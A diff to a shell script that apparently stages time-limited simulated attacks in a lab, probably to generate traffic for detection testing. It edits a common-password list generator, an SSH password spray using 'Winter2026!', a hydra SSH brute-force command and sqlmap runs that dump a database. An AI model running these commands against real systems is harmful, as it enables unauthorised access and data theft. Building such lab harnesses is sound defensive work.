@@ -1,12 +1,11 @@
 # The attacks. Each one is bounded in time (timeout) and in count (list length).
 
-# One hundred and sixty common passwords; the right one is number 139.
+# One hundred common passwords; the right one is number 84.
 password_list() {
     local word tail
     for word in password welcome dragon monkey letmein qwerty football master \
-        shadow sunshine princess secret summer winter spring hello \
-        freedom whatever trustno batman michael killer superman hunter \
-        buster soccer hockey autumn charlie andrew tigger ranger; do
+        shadow sunshine princess secret summer winter spring hello autumn \
+        freedom charlie ranger; do
         for tail in '' 1 123 2024 2025; do echo "$word$tail"; done
     done
 }
@@ -33,7 +32,7 @@ attack_nmap() {
 attack_spray() {
     local user
     for user in alice bob carol dave deploy root admin backup git mail \
-        ftpuser oracle postgres www; do
+        ftpuser oracle mysql www; do
         ssh_password a67 "$user" true 'Winter2026!'
         pause 18 26
     done
@@ -41,7 +40,7 @@ attack_spray() {
 
 attack_ssh() {
     password_list >"$WORK/out/passwords"
-    on a66 timeout 240 hydra -I -f -t 4 -l deploy -P "$WORK/out/passwords" "ssh://$SERVER"
+    on a66 timeout 240 hydra -I -f -t 6 -l deploy -P "$WORK/out/passwords" "ssh://$SERVER"
 }
 
 # The attacker comes back with the password that was found.
@@ -68,8 +67,10 @@ attack_paths() {
         -u "$URL" -w /usr/share/dirb/wordlists/common.txt
 }
 
+# The first parameter is safe, so the tool tries all it has; the second is not.
 attack_sql() {
-    on a78 timeout 120 sqlmap --batch --delay 0.05 --level 2 --dump -u "$URL/item?id=1"
+    on a78 timeout 60 sqlmap --batch --delay 0.1 -u "$URL/search?q=tea" || true
+    on a78 timeout 60 sqlmap --batch --delay 0.1 --dump -u "$URL/item?id=1"
 }
 
 # 600 requests, ten each second.
